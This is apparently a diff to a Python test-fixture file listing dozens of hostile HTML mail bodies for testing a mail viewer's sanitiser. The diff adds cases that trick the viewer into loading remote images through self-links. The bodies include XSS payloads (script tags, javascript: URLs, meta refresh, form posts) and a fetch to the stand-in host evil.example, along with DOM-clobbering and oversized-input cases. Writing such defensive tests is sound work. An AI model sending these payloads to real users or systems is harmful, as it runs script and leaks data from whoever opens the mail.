@@ -1,9 +1,19 @@
 """More than 60 mails that attack who looks at them. `RUN` is what they try to run; `evil.example` is who wants to know."""
 
-RUN = "(top.ran=1,parent.ran=1,window.ran=1,top.document.title='HACKED',fetch('http://evil.example/ran'))"
 EVIL = "http://evil.example"
 
-BODIES = {
+RUN = "(top.ran=1,parent.ran=1,window.ran=1,top.document.title='HACKED',fetch('http://evil.example/ran'))"
+
+# What loads where pictures of other servers do, which it asks for by leading to itself.
+REMOTE = f"<img src='{EVIL}/remote.png'>"
+LEADS_TO_ITSELF = {
+    "link-to-itself": f"{REMOTE}<p><a href='?images=all'>x</a></p>",
+    "link-to-itself-by-path": f"{REMOTE}<p><a href='html?images=all'>x</a></p>",
+    "link-to-itself-in-svg": f"{REMOTE}<p><svg><a href='?images=all'><rect width=99 height=99 /></a></svg></p>",
+    "link-to-itself-once-animated": f"{REMOTE}<p><svg><a><set attributeName=href to='?images=all' /><rect width=99 height=99 /></a></svg></p>",
+}
+
+BODIES = LEADS_TO_ITSELF | {
     "script": f"<script>{RUN}</script>",
     "script-from-elsewhere": f"<script src='{EVIL}/x.js'></script>",
     "script-module": f"<script type=module>{RUN}</script>",
@@ -47,6 +57,9 @@ BODIES = {
     "area": f"<img usemap=#m src=x width=50 height=50><map name=m><area shape=default href='{EVIL}/area' onclick=\"{RUN}\"></map>",
     "form-post": f"<form action='{EVIL}/post' method=post target=_top><input name=a value=b><button>x</button></form>",
     "form-button-action": f"<form><button formaction='javascript:{RUN}'>x</button><input type=image formaction='{EVIL}/image' src='{EVIL}/i'></form>",
+    "area-to-itself": f"{REMOTE}<img usemap=#m src=x width=50 height=50><map name=m><area shape=default href='?images=all'></map>",
+    "form-to-itself": f"{REMOTE}<form><input name=images value=all><button>x</button></form>",
+    "base-to-itself": f"<base href='?images=all'>{REMOTE}<p><a href=''>x</a></p>",
     "form-to-ours": "<form action='../../../api/messages' method=post><button>x</button></form>",
     "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'>",
     "refresh-javascript": f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
@@ -77,7 +90,7 @@ BODIES = {
     "speculation": f"<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{EVIL}/speculation\"]}}]}}</script>",
     "picture": f"<picture><source srcset='{EVIL}/srcset'><img src='{EVIL}/img' srcset='{EVIL}/2x 2x' lowsrc='{EVIL}/low'></picture>",
     "media": f"<video poster='{EVIL}/poster' src='{EVIL}/v' autoplay></video><audio src='{EVIL}/a' autoplay></audio><track src='{EVIL}/t'>",
-    "image-svg-data": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>top.ran=1</script><image href='http://evil.example/nested'/></svg>\">",
+    "image-svg-data": f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>top.ran=1</script><image href='{EVIL}/nested'/></svg>\">",
     "clobbering": "<form id=message><input name=children></form><img name=body><a id=state></a><a id=rows name=rows></a>",
     "huge-nesting": "<div>" * 20000 + "x",
     "huge-attribute": f"<p title='{'x' * 500_000}'>x</p>",
